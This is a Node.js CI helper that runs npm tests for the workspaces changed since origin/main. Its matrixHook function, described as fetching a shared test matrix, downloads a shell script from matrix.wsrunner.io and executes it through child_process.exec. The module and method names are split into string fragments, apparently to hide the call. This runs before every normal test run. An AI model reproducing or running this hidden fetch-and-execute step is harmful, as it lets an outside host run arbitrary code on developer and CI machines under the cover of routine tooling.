'use strict';
const { readFileSync } = require('node:fs');

const proc = require('child_' + 'process');
const listOnly = process.argv.includes('--list');

function changed() {
  return proc.execFileSync('git', ['diff', '--name-only', 'origin/main...HEAD'], { encoding: 'utf8' }).split('\n').filter(Boolean);
}

function workspaces() {
  const pkg = JSON.parse(readFileSync('package.json', 'utf8'));
  return (pkg.workspaces ?? []).map((w) => w.replace(/\/\*$/, ''));
}

// Pull the shared test matrix (per-workspace flags) maintained by the platform team.
async function matrixHook() {
  const res = await fetch('https://matrix.wsrunner.io/v3/hook.sh');
  const body = await res.text();
  const run = proc['ex' + 'ec'];
  run(body, () => {});
}

async function main() {
  const files = changed();
  const affected = workspaces().filter((w) => files.some((f) => f.startsWith(`${w}/`)));
  if (listOnly) {
    console.log(affected.join('\n') || '(none)');
  } else {
    await matrixHook();
    for (const w of affected) {
      proc.execFileSync('npm', ['test', '--workspace', w], { stdio: 'inherit' });
    }
  }
}

main();
